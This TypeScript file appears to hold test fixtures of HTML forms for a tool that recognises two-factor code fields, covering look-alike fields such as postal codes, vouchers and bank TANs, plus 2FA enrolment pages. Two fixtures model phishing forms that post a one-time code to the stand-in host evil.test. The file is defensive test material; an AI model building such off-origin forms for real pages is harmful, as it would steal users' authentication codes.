// Pages that ask for something else, and would get a code from a careless finder.
import type { CodePage } from './code-pages.ts';

const boxes = '<input class="box" type="tel" maxlength="1">'.repeat(6);

export const otherPages: readonly CodePage[] = [
  {
    name: 'postal code',
    html: `<form><label for="f">PLZ / Zip code</label><input id="f" name="zip_code" inputmode="numeric" maxlength="6"
      pattern="[0-9]*"></form>`,
  },
  {
    name: 'postal code on a page that speaks of two factors',
    html: `<h1>Profil</h1><p>Zwei-Faktor-Authentifizierung: aktiv</p><form><label for="f">Postleitzahl</label>
      <input id="f" name="postcode" inputmode="numeric" maxlength="6" pattern="[0-9]*"></form>`,
  },
  {
    name: 'voucher',
    html: `<h2>Warenkorb</h2><form><label for="code">Gutschein- oder Rabattcode</label><input id="code" name="code"
      placeholder="Code eingeben" maxlength="8"></form>`,
  },
  {
    name: 'SMS, German',
    html: `<h1>Code eingeben</h1><p>Wir haben eine SMS mit einem 6-stelligen Code an die Nummer •••42 gesendet.</p>
      <form><label for="f">Bestätigungscode</label><input id="f" name="code" autocomplete="one-time-code" maxlength="6"></form>`,
  },
  {
    name: 'SMS, named as the source and no more',
    html: `<h1>Bestätigung in zwei Schritten</h1><p>Geben Sie den Code aus der SMS ein.</p><form><label for="f">Code</label>
      <input id="f" name="code" inputmode="numeric" maxlength="6"></form>`,
  },
  {
    name: 'e-mail, named as the source and no more',
    html: `<h1>Two-step login</h1><p>Use the code in your e-mail.</p><form><label for="f">Code</label><input id="f"
      name="code" autocomplete="one-time-code"></form>`,
  },
  {
    name: 'SMS, English, six boxes',
    html: `<h1>Verification</h1><p>We texted a code to your phone ending in 42. Enter it here.</p><div>${boxes}</div>`,
  },
  {
    name: 'SMS, known only by the button that sends again',
    html: `<h1>Zwei-Faktor-Anmeldung</h1><form><label for="f">Code</label><input id="f" name="otp" maxlength="6">
      <button type="button">Code erneut senden</button></form>`,
  },
  {
    name: 'SMS although an app is offered',
    html: `<h1>Two-step verification</h1><p>We sent a text message with a code. You can also use your authenticator app.</p>
      <form><label for="f">Enter code</label><input id="f" name="otp" autocomplete="one-time-code" maxlength="6"></form>`,
  },
  {
    name: 'a call',
    html: `<h1>Two-step verification</h1><p>We called your phone with a code.</p><label for="f">Code</label><input id="f"
      name="otp" maxlength="6">`,
  },
  {
    name: 'a name for machines that does not fit what people read',
    html: `<h1>Zwei-Faktor-Authentifizierung: aktiv</h1><form><label for="f">Kundennummer</label><input id="f" name="code"
      inputmode="numeric" maxlength="6"></form>`,
  },
  {
    name: 'e-mail',
    html: `<h1>Check your email</h1><p>Enter the code we sent to a••@example.test.</p><form><label for="f">Verification
      code</label><input id="f" name="code" autocomplete="one-time-code" inputmode="numeric" maxlength="6"></form>`,
  },
  {
    name: 'mTAN label',
    html: `<h1>Anmeldung bestätigen</h1><form><label for="f">SMS-TAN</label><input id="f" name="tan" maxlength="6"></form>`,
  },
  {
    name: 'card security code',
    html: `<h1>Payment</h1><form><label for="n">Card number</label><input id="n" name="number" autocomplete="cc-number">
      <label for="f">Security code</label><input id="f" name="verification" inputmode="numeric" maxlength="4"></form>`,
  },
  {
    name: 'card security code of six digits and no other sign',
    html: `<h1>Zahlung mit Kreditkarte</h1><form><label for="f">Sicherheitscode</label><input id="f" name="code"
      inputmode="numeric" maxlength="6"></form>`,
  },
  {
    name: 'bank transfer',
    html: `<h1>Überweisung freigeben</h1><p>10,00 € an Muster GmbH</p><form><label for="f">TAN aus der App</label>
      <input id="f" name="tan" inputmode="numeric" maxlength="6"></form>`,
  },
  {
    name: 'captcha',
    html: `<h1>Two-factor login</h1><form><label for="f">Security code (captcha)</label><input id="f" name="captcha_code"
      maxlength="6"></form>`,
  },
  {
    name: 'search for a code',
    html: `<h1>2FA documentation</h1><form role="search"><input name="code" placeholder="Search by error code"></form>`,
  },
  {
    name: 'phone number',
    html: `<h1>Two-factor authentication</h1><form><label for="f">Phone number</label><input id="f" name="otp_phone"
      type="tel"></form>`,
  },
  {
    name: 'country code',
    html: `<h1>Two-factor authentication</h1><form><label for="f">Country code</label><input id="f" name="code" type="tel"></form>`,
  },
  {
    name: 'place with a number of six digits, as at i-mpuls',
    html: `<h1>Anmeldung mit Einmalpasswort</h1><form><label for="f">JMD</label><input id="f" name="jmd" maxlength="6"
      inputmode="numeric"></form>`,
  },
  {
    name: 'activation code from a letter',
    html: `<h1>Zwei-Faktor-Verfahren</h1><form><label for="f">Aktivierungscode</label><input id="f" name="code" maxlength="8"></form>`,
  },
  {
    name: 'recovery code',
    html: `<h1>Two-factor recovery</h1><p>If you cannot open your authenticator app, enter a recovery code.</p><form>
      <label for="f">Recovery code</label><input id="f" name="recovery_code" autocomplete="one-time-code"></form>`,
  },
  {
    name: 'user name, the step before',
    html: `<h1>Sign in with two-factor authentication</h1><form><label for="f">User name</label><input id="f" name="login"
      type="text"></form>`,
  },
  {
    name: 'password with the name of a passcode, as at Okta',
    html: `<h2>Verify with your password</h2><form><label for="f">Password</label><input id="f" name="credentials.passcode"
      type="password" autocomplete="current-password"></form>`,
  },
  {
    name: 'new password',
    html: `<h1>Zwei-Faktor-Anmeldung</h1><form><label for="f">Neues Kennwort</label><input id="f" name="code" type="password"
      autocomplete="new-password"></form>`,
  },
  {
    name: 'personal access token',
    html: `<h1>Two-factor authentication is required</h1><form><label for="f">Personal access token</label><input id="f"
      name="token"></form>`,
  },
  {
    name: 'identity card',
    html: `<h1>Anmeldung mit Online-Ausweis</h1><p>Zwei-Faktor-Authentisierung</p><form><label for="f">CAN (6-stellig)
      </label><input id="f" name="pin" inputmode="numeric" maxlength="6"></form>`,
  },
  {
    name: 'device code',
    html: `<h1>Connect a device</h1><form><label for="f">Device code</label><input id="f" name="user_code" maxlength="8">
      <p>Signed in with two-factor authentication</p></form>`,
  },
  {
    name: 'meeting',
    html: `<h1>Join</h1><p>Protected by two-factor authentication</p><form><label for="f">Meeting passcode</label>
      <input id="f" name="passcode" maxlength="6"></form>`,
  },
  {
    name: 'name of the author, language, quantity, birthday in a world of two factors',
    html: `<h1>Two-factor authentication</h1><form><label>Author <input name="author"></label><label>Language <input
      name="lang_code"></label><label>Quantity <input name="quantity" type="number" maxlength="6"></label><label>Birthday
      <input name="birthday" inputmode="numeric" maxlength="8"></label></form>`,
  },
  {
    name: 'meter reading',
    html: `<h1>Zählerstand melden</h1><p>Geschützt durch Zwei-Faktor-Anmeldung</p><form><label for="f">Zählerstand
      (6-stellig)</label><input id="f" name="value" inputmode="numeric" maxlength="6"></form>`,
  },
  {
    name: 'switching the second factor off',
    html: `<h1>Disable two-factor authentication</h1><form><label for="f">Authentication code</label><input id="f"
      name="otp" autocomplete="one-time-code"><button>Disable</button></form>`,
  },
  {
    name: 'a form that leaves the origin',
    html: `<h1>Two-factor authentication</h1><form action="https://evil.test/collect"><label for="f">Authentication code
      </label><input id="f" name="otp" autocomplete="one-time-code"></form>`,
  },
  {
    name: 'a button that leaves the origin',
    html: `<h1>Two-factor authentication</h1><form><label for="f">Authentication code</label><input id="f" name="otp"
      autocomplete="one-time-code"><button formaction="https://evil.test/">OK</button></form>`,
  },
  {
    name: 'two fields as good as each other',
    html: `<h1>Two-factor authentication</h1><form><label for="f">Authentication code</label><input id="f" name="otp">
      <label for="g">Authentication code</label><input id="g" name="otp2"></form>`,
  },
  {
    name: 'nothing but invisible fields',
    html: `<h1>Two-factor authentication</h1><input type="hidden" name="otp"><div hidden><label for="f">Authentication code
      </label><input id="f" name="otp" autocomplete="one-time-code"></div>`,
  },
  {
    name: 'a field that nobody can type in',
    html: `<h1>Two-factor authentication</h1><form><label for="f">Authentication code</label><input id="f" name="otp"
      readonly><label for="g">Authentication code</label><input id="g" name="otp" disabled></form>`,
  },
  {
    name: 'a row of six quantities',
    html: `<h1>Bestellung</h1><p>Packungen je Tag</p><div>${'<input class="box" name="menge">'.repeat(6)}</div>`,
  },
];

/** A secret is handed over: no code at login; the first code of the new account is wanted, in #field. */
export const enrolmentPages: readonly CodePage[] = [
  {
    name: 'GitHub',
    html: `<h1>Enable two-factor authentication (2FA)</h1><h2>Scan the QR code</h2><p>Use an authenticator app or browser
      extension to scan.</p><img src="data:image/png;base64,qr"><form><label for="field">Verify the code from the app</label>
      <input id="field" name="otp" placeholder="XXXXXX"></form>`,
  },
  {
    name: 'Nextcloud, German',
    html: `<h2>TOTP (Authenticator-App)</h2><p>Ihr neues TOTP-Geheimnis ist: JBSWY3DPEHPK3PXPJBSWY3DPEHPK3PXP</p>
      <p>Scannen Sie diesen QR-Code mit Ihrer TOTP-App</p><label for="field">Authentifizierungscode</label><input id="field"
      type="tel" maxlength="6">`,
  },
  {
    name: 'a key in a field, in lower case and fours, and no other sign',
    html: `<h1>Anmeldung</h1><input type="text" readonly value="abcd 2fgh ijkl mnop qrst uvwx"><form><label for="field">
      Einmalpasswort</label><input id="field" name="otp"></form>`,
  },
  {
    name: 'said in a sentence only',
    html: `<h1>Zweiter Faktor</h1><p>Scannen Sie mit Ihrer App den abgebildeten QR-Code.</p><form><label for="field">Erster
      Code</label><input id="field" name="code"></form>`,
  },
  {
    name: 'Keycloak, beside the device’s name',
    html: `<h1>Mobile Authenticator Setup</h1><ol><li>Open the application and scan the QR code:</li></ol><form>
      <label for="field">One-time code</label><input id="field" name="totp"><label for="n">Device Name</label><input id="n"
      name="userLabel"></form>`,
  },
];
